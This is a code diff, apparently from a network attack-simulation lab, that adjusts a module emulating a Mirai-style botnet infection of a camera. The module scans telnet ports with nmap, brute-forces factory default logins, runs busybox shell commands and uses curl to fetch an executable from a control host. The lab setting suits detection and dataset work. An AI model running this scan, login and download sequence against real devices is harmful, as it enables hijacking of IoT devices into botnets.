@@ -1,6 +1,7 @@
-import { darkAddresses, insideAddresses, spareOutsideAddresses } from '../addresses.ts';
+import { insideAddresses, spareOutsideAddresses } from '../addresses.ts';
 import { type Attack, type Claim, type Intensity, intensities } from '../contracts.ts';
 import type { LabHost } from '../lab.ts';
+import { routerAddress } from '../layout.ts';
 import { runProgram } from '../programs/run-program.ts';
 import { cameraAccount } from '../services/camera-shell.ts';
 import { isOpen } from '../services/daemon.ts';
@@ -15,6 +16,9 @@ const sourcePort = 26_023;
 const portsOffset = 40;
 const shareForScan = 0.45;
 const shareForLogin = 0.3;
+/** What a wrong password costs, and how much of the time is kept for what comes after the right one. */
+const missSeconds = 0.85;
+const insideSeconds = 3;
 
 type Plan = { readonly addresses: number; readonly perSecond: number; readonly periodSeconds: number };
 const plans: Readonly<Record<Intensity, Plan>> = {
@@ -56,13 +60,14 @@ export const botnetInfection: Attack = {
     const words = ['-sS', '-Pn', '-n', '-g', String(sourcePort), '-p', telnetPorts.join(','), ...rate];
     const scanSeconds = seconds * shareForScan;
     await actor.machine.attempt('nmap', [...words, ...scanned], { seconds: scanSeconds, signal });
-    const misses = factoryLogins.slice(0, intensity === 'quiet' ? 4 : factoryLogins.length);
+    const loginSeconds = Math.max(insideSeconds + 2, seconds * shareForLogin);
+    const misses = factoryLogins.slice(0, Math.floor((loginSeconds - insideSeconds) / missSeconds));
     const logins = [...misses, `${cameraAccount.user}:${cameraAccount.password}`].join(',');
     const ports = portsFor(portsOffset);
     const source = `http://${control.address}:${controlPorts.http}${executablePath}`;
     const load = `curl -s ${curlPorts(ports).join(' ')} -o /dev/null ${source}; echo loaded`;
     const commands = ['enable', 'sh', '/bin/busybox MIRAI', 'cat /proc/mounts', load];
-    const limit = AbortSignal.any([signal, AbortSignal.timeout(seconds * shareForLogin * 1000)]);
+    const limit = AbortSignal.any([signal, AbortSignal.timeout(loginSeconds * 1000)]);
     await runProgram(actor, 'telnet-bot', [victim.address, logins, ...commands], limit);
     const time = Math.max(2, seconds * (1 - shareForScan - shareForLogin));
     const report = [control.address, commandPort, time, periodSeconds].map(String);
@@ -82,11 +87,13 @@ function claims(
   scanned: readonly string[],
   ports: readonly number[],
 ): Claim[] {
-  const dark = new Set(darkAddresses());
+  const inside = new Set(insideAddresses());
   const toControl = { actors: [victim.address], targets: [control.address], protocol: 'tcp' } as const;
   return [
     { actors: [actor.address], targets: scanned, protocol: 'tcp', targetPorts: telnetPorts },
-    { actors: [actor.address], targets: scanned.filter(address => dark.has(address)), protocol: 'arp' },
+    // It lives no ordinary life: whom it looks for inside, it looks for because of this.
+    { actors: [actor.address], targets: scanned.filter(address => inside.has(address)), protocol: 'arp' },
+    { actors: [actor.address], targets: [routerAddress], protocol: 'icmp' },
     { ...toControl, targetPorts: [controlPorts.http], actorPorts: ports },
     { ...toControl, targetPorts: [commandPort] },
   ];
